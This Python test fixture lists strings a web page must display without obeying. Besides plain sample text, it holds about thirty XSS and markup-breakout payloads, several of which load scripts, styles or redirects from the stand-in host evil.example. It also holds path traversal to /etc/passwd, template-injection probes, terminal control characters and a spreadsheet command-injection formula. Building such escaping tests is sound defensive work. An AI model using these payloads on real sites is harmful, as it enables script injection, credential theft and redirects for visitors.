"""Where the pages are in tests, and what would like to be obeyed there."""

HOST = "127.0.0.1:8000"
ORIGIN = f"http://{HOST}"
HOSTILE = (
    "<script>window.pwned=1</script><img src=x onerror=alert(1)> [a](javascript:alert(1)) \u202e"
)
PLAIN = (
    "The checkout rounds the total before the tax is added. Find out where, and mend it.",
    "## Plan\n\n1. look at `src/shop/checkout.py`\n2. write a test that fails\n\n> ask first",
    "main",
    "| part | passed |\n|---|---|\n| checkout | 12 |",
    "a-branch/with-a-long-name-that-no-line-of-a-telephone-holds-" + "x" * 80,
)
"""Words as people write them, one of them longer than a narrow page."""
OWN = (
    HOSTILE,
    "<script>alert(1)</script>",
    "</script><script src=https://evil.example/x.js></script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</pre></code><svg onload=alert(1)>",
    "--><img src=https://evil.example/p.png><!--",
    "]]><iframe src=https://evil.example></iframe>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    '" autofocus onfocus=alert(1) x="',
    "' onmouseover='alert(1)",
    "javascript:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "//evil.example/x",
    "https://evil.example/%22%3E%3Cscript%3Ealert(1)%3C/script%3E",
    "../../../etc/passwd?x=1#y",
    "![x](https://evil.example/p.png)",
    '[x](javascript:alert(1) "onmouseover=alert(1)")',
    "[x]: javascript:alert(1)\n\n[x]",
    "<https://evil.example> <javascript:alert(1)>",
    "```html\n</code></pre><script>alert(1)</script>\n```",
    "# <img src=x onerror=alert(1)>",
    "| <svg/onload=alert(1)> | b |\n|---|---|\n| [a](javascript:alert(1)) | c |",
    '<meta http-equiv=refresh content="0;url=https://evil.example">',
    '<link rel=stylesheet href=https://evil.example/x.css><base href="https://evil.example">',
    "<form action=https://evil.example><button autofocus>go</button></form>",
    "<style>@import url(https://evil.example/x.css)</style>",
    '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">',
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video src=https://evil.example/v autoplay><audio src=https://evil.example/a autoplay>",
    "{{ 7 * 7 }} {% include '/etc/passwd' %} ${7*7} <%= 7*7 %>",
    "\x1b[2J\x1b]0;pwned\x07 \x00 \x08 \x7f \u202e \u2066 \ufeff",
    "<\u017fcript>alert(1)</\u017fcript> \uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "a" * 300,
    "=cmd|' /C calc'!A0",
)
"""Words that a page of ours must show, and never do: by what they would break out of or load."""
